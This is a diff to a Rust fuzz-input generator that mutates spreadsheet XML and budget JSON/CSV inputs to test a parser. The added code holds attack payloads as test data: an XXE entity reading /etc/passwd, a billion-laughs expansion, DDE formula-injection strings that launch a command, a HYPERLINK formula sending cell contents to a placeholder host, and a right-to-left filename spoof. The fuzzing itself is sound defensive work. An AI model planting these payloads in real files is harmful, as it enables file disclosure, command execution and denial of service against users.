@@ -1,7 +1,8 @@
 //! A seeded generator of hostile variants of real workbooks: byte flips and truncations of the
 //! file, and mutations of the XML inside the zip (cell references in every spelling and size,
 //! lying counts and dimensions, deep nesting, very long strings, odd cell types, repeat
-//! counts), recompressed as a valid zip. The same seed gives the same mutants.
+//! counts, external entities and entity expansion), recompressed as a valid zip; and mutants of
+//! the data inputs (JSON, facts.csv). The same seed gives the same mutants.
 
 use std::io::{Read, Write};
 
@@ -167,7 +168,7 @@ fn xml_mutant(rng: &mut Rng, ext: &str, base: &[u8]) -> (String, Vec<u8>) {
     };
     let ods = ext == "ods";
     let text = String::from_utf8_lossy(&entries[target].1).into_owned();
-    let (what, text) = match rng.below(11) {
+    let (what, text) = match rng.below(13) {
         0 if ods => ("repeat-columns", ods_repeat(rng, &text, "table-cell", "number-columns-repeated")),
         1 if ods => ("repeat-rows", ods_repeat(rng, &text, "table-row", "number-rows-repeated")),
         0 | 1 => {
@@ -234,6 +235,23 @@ fn xml_mutant(rng: &mut Rng, ext: &str, base: &[u8]) -> (String, Vec<u8>) {
             entries.remove(target);
             return ("missing-part".into(), rezip(&entries));
         }
+        10 => (
+            "xxe",
+            with_doctype(
+                &text,
+                r#"<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
+                "&xxe;",
+            ),
+        ),
+        11 => {
+            let mut dtd = String::from(r#"<!DOCTYPE x [<!ENTITY l0 "lol">"#);
+            for i in 1..=9 {
+                let refs = format!("&l{};", i - 1).repeat(10);
+                dtd.push_str(&format!(r#"<!ENTITY l{i} "{refs}">"#));
+            }
+            dtd.push_str("]>");
+            ("billion-laughs", with_doctype(&text, &dtd, "&l9;"))
+        }
         _ => {
             let bytes = flip(rng, text.into_bytes());
             entries[target].1 = bytes;
@@ -242,6 +260,20 @@ fn xml_mutant(rng: &mut Rng, ext: &str, base: &[u8]) -> (String, Vec<u8>) {
     };
     entries[target].1 = text.into_bytes();
     (what.to_string(), rezip(&entries))
+}
+
+/// An XML text with a document type declaration (`dtd`) after its XML declaration, and
+/// `reference` (an entity) as the text of its first value or string.
+fn with_doctype(text: &str, dtd: &str, reference: &str) -> String {
+    let at = text.find("?>").map_or(0, |i| i + 2);
+    let mut out = format!("{}{dtd}{}", &text[..at], &text[at..]);
+    for open in ["<v>", "<t>", "<text:p>"] {
+        if let Some(i) = out.find(open) {
+            out.insert_str(i + open.len(), reference);
+            break;
+        }
+    }
+    out
 }
 
 /// Inserts `what` after the end (`close`) of a random occurrence of `tag`.
@@ -366,4 +398,200 @@ fn document_xml_mutant(rng: &mut Rng, base: &[u8]) -> (String, Vec<u8>) {
     };
     entries[target].1 = text.into_bytes();
     (what.to_owned(), rezip(&entries))
+}
+
+/// Texts that a spreadsheet would take for a formula (DDE, links, arithmetic), or that hide or
+/// reverse what follows.
+const HOSTILE_TEXTS: [&str; 10] = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "四川\u{202E}gpj.exe",
+    "名称\u{0}含空字符",
+    "CON",
+];
+
+/// Amounts beyond a budget, or not amounts at all.
+const HOSTILE_AMOUNTS: [&str; 9] = [
+    "1e400",
+    "79228162514264337593543950335",
+    "-79228162514264337593543950335",
+    "1000000000000000",
+    "0.0000000000000000000000000001",
+    "NaN",
+    "",
+    "１２３",
+    "1,347.44",
+];
+
+/// The `n` mutants of the data inputs for `seed`: half of `json` (a budget as `convert`
+/// writes it), half of `csv` (its facts.csv).
+pub fn data_mutants(json: &str, csv: &str, n: usize, seed: u64) -> Vec<Mutant> {
+    let mut rng = Rng::new(seed ^ 0xDA7A);
+    (0..n)
+        .map(|i| {
+            let (ext, what, bytes) = if i % 2 == 0 {
+                let (what, bytes) = json_mutant(&mut rng, json);
+                ("json", what, bytes)
+            } else {
+                let (what, bytes) = csv_mutant(&mut rng, csv);
+                ("csv", what, bytes)
+            };
+            Mutant {
+                name: format!("d{i:05}-{what}"),
+                ext,
+                bytes,
+            }
+        })
+        .collect()
+}
+
+/// Every string or number under `value` that `f` may replace, as JSON pointers.
+fn pointers(
+    value: &serde_json::Value,
+    at: String,
+    keep: &dyn Fn(&str) -> bool,
+    out: &mut Vec<String>,
+) {
+    match value {
+        serde_json::Value::Object(map) => {
+            for (k, v) in map {
+                pointers(
+                    v,
+                    format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
+                    keep,
+                    out,
+                );
+            }
+        }
+        serde_json::Value::Array(items) => {
+            for (i, v) in items.iter().enumerate() {
+                pointers(v, format!("{at}/{i}"), keep, out);
+            }
+        }
+        _ if keep(&at) => out.push(at),
+        _ => {}
+    }
+}
+
+fn json_mutant(rng: &mut Rng, base: &str) -> (String, Vec<u8>) {
+    let mut v: serde_json::Value = serde_json::from_str(base).unwrap();
+    let what = match rng.below(9) {
+        0 | 1 => {
+            // A text field: the entity's code or name, a row's code, name or unit, a text.
+            let mut at = Vec::new();
+            pointers(
+                &v,
+                String::new(),
+                &|p| !p.contains("/amounts/") && !p.ends_with("/kind") && !p.ends_with("/number"),
+                &mut at,
+            );
+            let p = rng.pick(&at).clone();
+            *v.pointer_mut(&p).unwrap() = (*rng.pick(&HOSTILE_TEXTS)).into();
+            "text"
+        }
+        2 | 3 => {
+            let mut at = Vec::new();
+            pointers(&v, String::new(), &|p| p.contains("/amounts/"), &mut at);
+            let p = rng.pick(&at).clone();
+            *v.pointer_mut(&p).unwrap() = (*rng.pick(&HOSTILE_AMOUNTS)).into();
+            "amount"
+        }
+        4 => {
+            // Many copies of one row.
+            let t = rng.below(13);
+            let rows = v["tables"][t]["rows"].as_array_mut().unwrap();
+            if let Some(row) = rows.get(rng.below(rows.len())).cloned() {
+                rows.extend(std::iter::repeat_n(row, 5000));
+            }
+            "many-rows"
+        }
+        5 => {
+            let choices: [(&str, serde_json::Value); 5] = [
+                ("/tables/0/number", 255.into()),
+                ("/tables/1/number", 1.into()),
+                ("/tables/2/rows/1/kind", "grand".into()),
+                ("/year", (-1).into()),
+                ("/tables", "x".into()),
+            ];
+            let (p, x) = rng.pick(&choices).clone();
+            *v.pointer_mut(p).unwrap() = x;
+            "wrong-value"
+        }
+        6 => {
+            let depth = 1 + rng.below(20_000);
+            return (
+                "deep".into(),
+                format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes(),
+            );
+        }
+        7 => {
+            let text = serde_json::to_string(&v).unwrap();
+            let cut = rng.below(text.len());
+            return ("truncated".into(), text.as_bytes()[..cut].to_vec());
+        }
+        _ => return ("flip".into(), flip(rng, serde_json::to_vec(&v).unwrap())),
+    };
+    (what.into(), serde_json::to_vec(&v).unwrap())
+}
+
+/// A CSV field quoted as needed.
+fn field(text: &str) -> String {
+    if text.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", text.replace('"', "\"\""))
+    } else {
+        text.to_owned()
+    }
+}
+
+fn csv_mutant(rng: &mut Rng, base: &str) -> (String, Vec<u8>) {
+    let mut lines: Vec<String> = base.lines().map(str::to_owned).collect();
+    let at = 1 + rng.below(lines.len() - 1);
+    // table,row,code,name,unit_code,column,amount,kind
+    let mut cells: Vec<String> = lines[at].split(',').map(str::to_owned).collect();
+    let what = match rng.below(8) {
+        0 | 1 => {
+            let column = *rng.pick(&[2usize, 3, 4, 5]);
+            cells[column] = field(*rng.pick(&HOSTILE_TEXTS));
+            "text"
+        }
+        2 => {
+            cells[6] = field(*rng.pick(&HOSTILE_AMOUNTS));
+            "amount"
+        }
+        3 => {
+            cells[*rng.pick(&[0usize, 1])] = (*rng.pick(&[
+                "0",
+                "14",
+                "255",
+                "99999999999",
+                "-1",
+                "18446744073709551616",
+            ]))
+            .to_owned();
+            "number"
+        }
+        4 => {
+            cells[3] = format!("\"{}", cells[3]);
+            "unclosed-quote"
+        }
+        5 => {
+            let line = lines[at].clone();
+            lines.extend(std::iter::repeat_n(line, 20_000));
+            "many-lines"
+        }
+        6 => {
+            let cut = rng.below(base.len());
+            return ("truncated".into(), base.as_bytes()[..cut].to_vec());
+        }
+        _ => return ("flip".into(), flip(rng, base.as_bytes().to_vec())),
+    };
+    if what != "many-lines" {
+        lines[at] = cells.join(",");
+    }
+    (what.into(), (lines.join("\n") + "\n").into_bytes())
 }
